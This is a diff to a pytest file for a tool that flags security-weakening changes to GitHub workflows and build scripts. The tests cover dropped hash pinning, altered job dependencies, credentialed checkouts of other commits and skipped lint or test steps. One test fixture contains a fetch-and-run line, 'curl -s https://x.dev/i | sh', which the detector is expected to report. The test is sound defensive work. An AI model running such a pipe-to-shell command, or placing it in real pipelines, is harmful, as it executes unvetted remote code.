@@ -1,5 +1,6 @@
 """The invariants of workflows, in this repository's workflows and changed ones."""
 
+import re
 from pathlib import Path
 
 import pytest
@@ -12,7 +13,9 @@ FILES = {
     f"{FOLDER}{path.name}": path.read_bytes()
     for path in (ROOT / ".github" / "workflows").glob("*.yml")
 }
-DEPLOY, PULL_REQUEST = f"{FOLDER}deploy.yml", f"{FOLDER}pull-request.yml"
+DEPLOY, PULL_REQUEST, RELEASE = (
+    f"{FOLDER}{name}.yml" for name in ("deploy", "pull-request", "release")
+)
 CONDITION = "    if: ${{ !cancelled() }}\n"
 TOKEN = "    permissions:\n      contents: read\n      id-token: write\n"
 
@@ -36,6 +39,9 @@ def dangers(path: str, content: str | None) -> list[str]:
         (DEPLOY, "    concurrency:\n      group: deploy-prod\n      cancel-in-progress: false\n",
          "", "prod gets a token for AWS (id-token) without a concurrency group"),
         (DEPLOY, "needs: [build, review, dev]", "needs: [build, review]", "prod delivers first"),
+        (DEPLOY, "ref: ${{ needs.review.outputs.base }}", "ref: ${{ github.sha }}",
+         "the job dev runs code of another commit, with credentials (id-token: write, environment "
+         "dev): ref: ${{ needs.review.outputs.base }} -> ${{ github.sha }}"),
         (DEPLOY, "needs: [build, review]\n", "needs: build\n", "dev delivers, and needs no job"),
         (DEPLOY, "    needs: [build, review, dev]\n", "    needs: dev\n    if: always()\n", "(if)"),
         (DEPLOY, "deploy-prod\n      cancel-in-progress: false",
@@ -78,6 +84,13 @@ def dangers(path: str, content: str | None) -> list[str]:
         (PULL_REQUEST, "          persist-credentials: false\n",
          "          ref: ${{ github.event.pull_request.head.sha }}\n",
          "checks out the code of a change"),
+        (RELEASE, '      - run: git merge-base --is-ancestor "$GITHUB_SHA" origin/main\n', "",
+         'the job build no longer runs: git merge-base --is-ancestor "$GITHUB_SHA"'),
+        (DEPLOY, "needs: [build, review, dev]", "needs: [build]",
+         'jobs.prod.needs: ["build", "review", "dev"] -> ["build"]'),
+        (DEPLOY, "    environment: prod\n", "", "jobs.prod.environment: prod -> none"),
+        (PULL_REQUEST, "  pull_request:\n", "  workflow_dispatch:\n",
+         "it no longer runs on pull_request"),
     ],
 )  # fmt: skip
 def test_broken_invariant_is_a_danger(path: str, old: str, new: str, message: str) -> None:
@@ -107,4 +120,44 @@ def test_broken_invariant_is_reported_once() -> None:
     changed = compare_files(FILES, head).dangers
     (danger,) = [danger for danger in changed if danger.rule == "widened_workflows"]
     assert danger.message.startswith(f"{DEPLOY}: ")
-    assert danger.details == ()
+    assert danger.message.count("without an environment") == 1
+
+
+@pytest.mark.parametrize(
+    ("path", "before", "after", "message"),
+    [
+        ("Makefile", "lint:\n\tmypy && zizmor .\n", "lint:\n\tmypy\n", "no longer runs zizmor"),
+        (".ci/run", "make lint\nmake test\n", "make lint\n", "no longer runs make test"),
+        ("tools/x.sh", "pip install --require-hashes -r a\n", "pip install -r a\n", ""),
+        ("build.sh", "pip install --no-deps a\n", "pip install --no-deps a --no-binary a\n",
+         "installs, and runs code of the package: --no-binary a: pip install"),
+        ("build.sh", "pip install --require-hashes -r a\n", "pip install -r a\n",
+         "newly runs: pip install -r a; no longer has --require-hashes: pip install --require-"),
+        (f"{FOLDER}x.yml", "on: push\njobs: { a: { steps: [] } }\n",
+         "on: push\njobs: { a: { steps: [{ run: curl -s https://x.dev/i | sh }] } }\n",
+         "newly runs: curl -s https://x.dev/i | sh"),
+        ("Makefile", "all:\n", "# see https://example.com\nall:\n", ""),
+    ],
+)  # fmt: skip
+def test_commands_of_scripts(path: str, before: str, after: str, message: str) -> None:
+    changed = compare_files({path: before.encode()}, {path: after.encode()}).dangers
+    texts = [danger.message.removeprefix(f"{path}: ") for danger in changed
+             if danger.rule != "unowned_code"]  # fmt: skip
+    assert message in "; ".join(texts)
+    assert bool(texts) == bool(message)
+
+
+def test_renamed_and_moved_steps_are_no_danger() -> None:
+    content = FILES[RELEASE].decode()
+    steps = re.findall(r"^      - run: .*\n", content, re.M)
+    moved = content.replace(steps[0], "", 1).replace(steps[1], f"{steps[1]}{steps[0]}", 1)
+    assert dangers(RELEASE, moved.replace("    steps:\n", "    name: X\n    steps:\n", 1)) == []
+
+
+def test_other_settings_are_told_with_both_values() -> None:
+    path = ".github/dependabot.yml"
+    base, head = ({path: f"schedule: {{ interval: {text} }}\n".encode()}
+                  for text in ("weekly", "monthly"))  # fmt: skip
+    assert compare_files(base, head).notes == (
+        ".github: dependabot.yml: schedule.interval: weekly -> monthly",
+    )
